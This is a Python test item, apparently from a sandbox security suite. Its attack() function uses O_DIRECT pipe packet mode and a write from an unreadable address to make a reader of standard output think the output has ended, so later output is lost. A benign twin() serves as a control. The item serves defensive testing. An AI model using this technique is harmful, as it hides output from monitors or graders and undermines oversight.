"""Let the reader of standard output believe that it has ended.

Technique: a pipe in packet mode (O_DIRECT) gives a reader one write at a time. Before Linux 6.15 a write from an
    address that cannot be read leaves an empty packet, and reading that gives 0 bytes, which means the end to
    a reader that asks no further. What comes afterwards is lost, and whoever writes it gets EPIPE.
Success: from outside: what was written afterwards is missing.
Stopped by: descriptors
Held when: exit 0; stdout_ends_with "after the end"; answered_within 5 s
"""
import fcntl
import time


def attack():
    sys.stdout.flush()
    os.write(1, b"before the end, ")
    answer(fcntl.fcntl, 1, fcntl.F_SETFL, fcntl.fcntl(1, fcntl.F_GETFL) | os.O_DIRECT)
    time.sleep(0.05)
    ctypes.set_errno(0)
    libc.write(1, ctypes.c_void_p(8), 16)
    libc.write(1, None, 0)
    time.sleep(0.05)
    if not isinstance(answer(os.write, 1, b"after the end"), int):
        os._exit(9)
    os._exit(0)


def twin():
    """Packets in a pipe of one's own, and writes of nothing to standard output."""
    reading, writing = os.pipe2(os.O_DIRECT)
    os.write(writing, b"one")
    os.write(writing, b"two")
    assert os.read(reading, 99) == b"one" and os.read(reading, 99) == b"two"
    os.write(1, b"")
    print("still there")
